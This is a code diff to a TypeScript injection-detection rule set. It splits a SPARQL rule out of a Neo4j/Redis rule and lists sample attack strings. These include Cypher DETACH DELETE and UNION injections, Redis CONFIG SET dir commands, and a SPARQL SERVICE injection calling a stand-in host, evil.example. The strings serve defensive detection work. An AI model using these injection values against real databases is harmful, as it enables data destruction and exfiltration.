@@ -150,7 +150,7 @@ export const embeddedCodeRules: readonly Rule[] = [
   // Neo4j and Redis: what reaches beyond the data.
   pattern(
     'nosqli/graph',
-    /['"][\s)}\]]{0,8}(?:detach\s{1,4}delete\b|(?:return\s[^\n]{0,40})?union\s{1,4}(?:all\s{1,4})?(?:match|call)\b|with\s{1,4}\d{1,4}\s{1,4}as\s{1,4}\w|match\s{0,4}\([^()\n]{0,60}\)\s{0,4}(?:set|detach|delete|return)\b)|["'>][\s).};]{0,8}(?:union\s{0,4}\{|service\s{1,4}<|\?[a-z]\w{0,12}\s{1,4}\?[a-z]\w{0,12})[^\n]{0,200}\}\s{0,4}#|\bload\s{1,4}csv\s{1,4}(?:with\s{1,4}headers\s{1,4})?from\s{1,4}["'](?:https?|ftp|file):|^[^\n]{0,40}["')]\s{0,4}(?:return\s[^\n]{0,40})?\bcall\s{1,4}(?:apoc|dbms|db)\.\w|^\s{0,2}(?:slaveof|replicaof)\s{1,4}[\w.-]{1,64}\s{1,4}\d{2,5}\s{0,2}$|^\s{0,2}config\s{1,4}set\s{1,4}(?:dir|dbfilename)\s{1,4}\S/,
+    /['"][\s)}\]]{0,8}(?:detach\s{1,4}delete\b|(?:return\s[^\n]{0,40})?union\s{1,4}(?:all\s{1,4})?(?:match|call)\b|with\s{1,4}\d{1,4}\s{1,4}as\s{1,4}\w|match\s{0,4}\([^()\n]{0,60}\)\s{0,4}(?:set|detach|delete|return)\b)|\bload\s{1,4}csv\s{1,4}(?:with\s{1,4}headers\s{1,4})?from\s{1,4}["'](?:https?|ftp|file):|^[^\n]{0,40}["')]\s{0,4}(?:return\s[^\n]{0,40})?\bcall\s{1,4}(?:apoc|dbms|db)\.\w|^\s{0,2}(?:slaveof|replicaof)\s{1,4}[\w.-]{1,64}\s{1,4}\d{2,5}\s{0,2}$|^\s{0,2}config\s{1,4}set\s{1,4}(?:dir|dbfilename)\s{1,4}\S/,
     {
       score: 5,
       quotable: true,
@@ -163,18 +163,27 @@ export const embeddedCodeRules: readonly Rule[] = [
         'CONFIG SET dir /var/www/html',
         "' DETACH DELETE n //",
         "') RETURN n UNION MATCH (n) RETURN n //",
-        '" } UNION { ?s ?p ?o } #',
-        '" . SERVICE <http://evil.example/> { ?s ?p ?o } } #',
       ],
       benign: [
         'MATCH (n) RETURN n',
         "$('#a').next()",
         "df['a'].drop()",
-        '{ ?s ?p ?o } UNION { ?a ?b ?c }',
         'load csv from disk',
         'call db (now)',
         'config set theme dark',
       ],
+    },
+  ),
+  // SPARQL: a pattern behind a string that the value has left, and a comment behind it.
+  pattern(
+    'nosqli/triples',
+    /["'>][\s).};]{0,8}(?:union\s{0,4}\{|service\s{1,4}<|\?[a-z]\w{0,12}\s{1,4}\?[a-z]\w{0,12})[^\n]{0,200}\}\s{0,4}#/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.hash,
+      attacks: ['" } UNION { ?s ?p ?o } #', '" . SERVICE <http://evil.example/> { ?s ?p ?o } } #'],
+      benign: ['{ ?s ?p ?o } UNION { ?a ?b ?c }', '"a" } # { ?s ?p ?o }'],
     },
   ),
   // A part of a variable of Windows, in place of a letter that a filter refuses.
